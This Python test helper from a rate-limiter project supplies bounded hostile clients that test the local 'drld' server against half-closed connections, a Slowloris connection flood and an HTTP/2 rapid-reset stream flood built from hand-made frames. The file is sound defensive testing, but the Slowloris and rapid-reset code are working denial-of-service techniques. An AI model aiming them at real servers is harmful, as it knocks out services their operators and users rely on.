#!/usr/bin/env python3
"""Hostile clients for tests/test_drld_attack.sh (issue 45), standard
library only. Every loop is bounded in count and in time and stops by
itself; nothing here judges the machine's speed.

  drld_attack.py halfclose PORT N
      N requests, 8 connections at a time, each a new connection: POST
      /v1/check, then shutdown(SHUT_WR) as `nc -N` does, then read the
      answer to its end (30 s deadline each). Prints "answered=A of N"
      and the first unanswered one's bytes.

  drld_attack.py crowd PORT N
      Slowloris past the connection bound: N connections each send a
      request's headers one byte every 0.5 s (never ending them), then,
      once all N are open or refused, one GET /healthz on a new
      connection with a 30 s deadline. Prints "open=O healthz=STATUS"
      (STATUS the HTTP status, or the error's name). The connections
      stop after 60 s.

  drld_attack.py resets PORT N
      HTTP/2 rapid reset on drld's gRPC port: one connection, N streams,
      each a ShouldRateLimit HEADERS frame followed at once by
      RST_STREAM(CANCEL), in batches of 100 while reading what drld
      sends (60 s deadline). Prints "sent=N goaway=yes|no closed=yes|no".
"""
import socket
import struct
import sys
import threading
import time

CHECK = (b'{"key":"hc%d","limit":"fixed_window:1000000/1h"}')


def halfclose(port, n):
    answered = 0
    first_bad = None
    lock = threading.Lock()
    next_i = [0]

    def one(i):
        body = CHECK % i
        req = (b"POST /v1/check HTTP/1.1\r\nHost: x\r\n"
               b"Content-Type: application/json\r\n"
               b"Content-Length: %d\r\n\r\n" % len(body)) + body
        s = socket.create_connection(("127.0.0.1", port), 30)
        try:
            s.sendall(req)
            s.shutdown(socket.SHUT_WR)
            got = b""
            end = time.time() + 30
            while time.time() < end:
                b = s.recv(65536)
                if not b:
                    break
                got += b
            return got
        except OSError as e:
            return ("<%s>" % type(e).__name__).encode()
        finally:
            s.close()

    def worker():
        nonlocal answered, first_bad
        while True:
            with lock:
                i = next_i[0]
                if i >= n:
                    return
                next_i[0] += 1
            got = one(i)
            ok = got.startswith(b"HTTP/1.1 200 ") and b'"allowed":true' in got
            with lock:
                if ok:
                    answered += 1
                elif first_bad is None:
                    first_bad = got[:200]

    ts = [threading.Thread(target=worker) for _ in range(8)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    print("answered=%d of %d%s" % (answered, n, "" if first_bad is None
                                   else " first unanswered: %r" % first_bad))


def crowd(port, n):
    conns = []
    for _ in range(n):
        try:
            s = socket.create_connection(("127.0.0.1", port), 5)
            s.setblocking(False)
            conns.append(s)
        except OSError:
            break
    stop = threading.Event()
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000

    def trickle():
        i = 0
        end = time.time() + 60
        while not stop.is_set() and time.time() < end:
            for s in conns:
                try:
                    s.send(head[i % len(head):i % len(head) + 1])
                except OSError:
                    pass
            i += 1
            stop.wait(0.5)
        for s in conns:
            s.close()

    t = threading.Thread(target=trickle)
    t.start()
    status = "?"
    try:
        h = socket.create_connection(("127.0.0.1", port), 30)
        h.settimeout(30)
        h.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
                  b"Connection: close\r\n\r\n")
        got = b""
        while True:
            b = h.recv(4096)
            if not b:
                break
            got += b
        h.close()
        status = got.split(b" ")[1].decode() if got.startswith(
            b"HTTP/1.1 ") else "no-answer"
    except OSError as e:
        status = type(e).__name__
    stop.set()
    t.join()
    print("open=%d healthz=%s" % (len(conns), status))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(
        ">BBI", kind, flags, stream) + payload


def hpack_literal(index, value):
    """A literal header field without indexing, its name from the static
    table at index (4-bit prefix), its value a raw string."""
    if index < 15:
        out = bytes([index])
    else:
        out = bytes([15, index - 15])
    return out + bytes([len(value)]) + value


def resets(port, n, hold=0.0):
    path = b"/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
    block = (b"\x83\x86" + hpack_literal(4, path) +
             hpack_literal(1, b"127.0.0.1") +
             hpack_literal(31, b"application/grpc") +
             b"\x00\x02te\x08trailers")
    s = socket.create_connection(("127.0.0.1", port), 30)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    s.setblocking(False)
    goaway = closed = False
    got = b""
    sent = 0
    stream = 1
    end = time.time() + 60
    while sent < n and time.time() < end and not closed:
        out = b""
        for _ in range(min(100, n - sent)):
            out += frame(1, 4, stream, block)  # HEADERS, END_HEADERS
            out += frame(3, 0, stream, struct.pack(">I", 8))  # CANCEL
            stream += 2
            sent += 1
        view = memoryview(out)
        while len(view) and time.time() < end and not closed:
            try:
                view = view[s.send(view):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                closed = True
            # read what drld sends (settings, acks, window updates,
            # GOAWAY) so neither side's buffers fill
            try:
                while True:
                    b = s.recv(65536)
                    if not b:
                        closed = True
                        break
                    got = (got + b)[-65536:]
            except BlockingIOError:
                pass
            except OSError:
                closed = True
    hold_end = time.time() + hold
    while time.time() < hold_end and not closed:
        try:
            b = s.recv(65536)
            if not b:
                closed = True
            got = (got + b)[-65536:]
        except BlockingIOError:
            time.sleep(0.05)
        except OSError:
            closed = True
    i = 0
    while i + 9 <= len(got):  # only a rough scan: GOAWAY is type 7
        ln = int.from_bytes(got[i:i + 3], "big")
        if got[i + 3] == 7:
            goaway = True
        i += 9 + ln
    s.close()
    print("sent=%d goaway=%s closed=%s" % (sent, "yes" if goaway else "no",
                                          "yes" if closed else "no"))


def main(argv):
    cmd = argv[1] if len(argv) > 1 else ""
    if cmd == "halfclose":
        halfclose(int(argv[2]), int(argv[3]))
    elif cmd == "crowd":
        crowd(int(argv[2]), int(argv[3]))
    elif cmd == "resets":
        resets(int(argv[2]), int(argv[3]),
               float(argv[4]) if len(argv) > 4 else 0.0)
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
